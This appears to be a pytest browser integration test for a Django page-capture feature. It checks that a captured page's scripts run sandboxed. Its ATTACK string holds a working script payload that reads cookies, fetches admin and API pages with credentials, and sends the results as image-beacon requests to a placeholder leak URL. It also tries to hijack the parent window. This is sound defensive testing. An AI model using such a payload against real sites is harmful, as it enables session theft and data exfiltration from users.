"""In a real browser: a captured page's scripts cannot read our cookies, call our API or navigate
the window that shows them."""

import pytest
from django.urls import reverse

from sources.capture import snapshot_capture, snapshot_request
from sources.services import source_get_or_create
from tests.browser import chromium_page, require_chromium
from tests.sources.webserver import WebServer

ATTACK = """<html><head><title>Looks harmless</title></head><body>
<p id="claim">About 100,000 troops were deployed.</p>
<script>
  document.getElementById("claim").textContent = "SCRIPT RAN " + document.cookie;
  fetch("/admin/").then(r => r.text()).then(t =>
    new Image().src = "{leak}?api=" + encodeURIComponent(t.slice(0, 50)));
  new Image().src = "{leak}?cookie=" + encodeURIComponent(document.cookie);
  fetch("/api/v1/claims/", {{credentials: "include"}}).then(r => r.text()).then(t =>
    new Image().src = "{leak}?claims=" + encodeURIComponent(t.slice(0, 80)));
  try {{ parent.document.title = "pwned"; }} catch (e) {{}}
  try {{ top.location = "{leak}?navigated=1"; }} catch (e) {{}}
</script></body></html>"""


@pytest.mark.integration
@pytest.mark.django_db(transaction=True)
def test_a_captured_pages_scripts_do_not_run_in_our_origin(live_server, client, journalist, settings):
    require_chromium()
    web = WebServer()
    try:
        settings.CAPTURE_ALLOWED_PRIVATE = [f"127.0.0.1:{web.port}"]
        web.page("/attack", ATTACK.replace("{leak}", web.url("/leak")).replace("{{", "{").replace("}}", "}"))
        source, _ = source_get_or_create(url=web.url("/attack"))
        snapshot = snapshot_capture(snapshot_id=snapshot_request(source=source, force=True).pk).snapshot
        assert snapshot.status == "succeeded"
        client.force_login(journalist)
        cookie = client.cookies["sessionid"].value

        with chromium_page(live_server.url, cookie) as page:
            # The capture page, with the page framed in a sandbox.
            page.goto(live_server.url + reverse("capture-detail", args=[snapshot.pk]))
            page.wait_for_timeout(1500)
            assert page.title().startswith("Capture #")  # the frame could not retitle its parent
            assert page.url.endswith(reverse("capture-detail", args=[snapshot.pk]))  # nor navigate the top window
            frame = page.frame_locator("iframe.capture-frame")
            assert frame.locator("#claim").inner_text() == "About 100,000 troops were deployed."
            # The raw page opened on its own: still sandboxed by its CSP.
            page.goto(live_server.url + reverse("capture-raw", args=[snapshot.pk]))
            page.wait_for_timeout(1500)
            assert page.locator("#claim").inner_text() == "About 100,000 troops were deployed."
        leaks = [hit for hit in web.hits if hit.startswith("/leak")]
        assert leaks == [] and web.hits == ["/attack"]
    finally:
        web.stop()
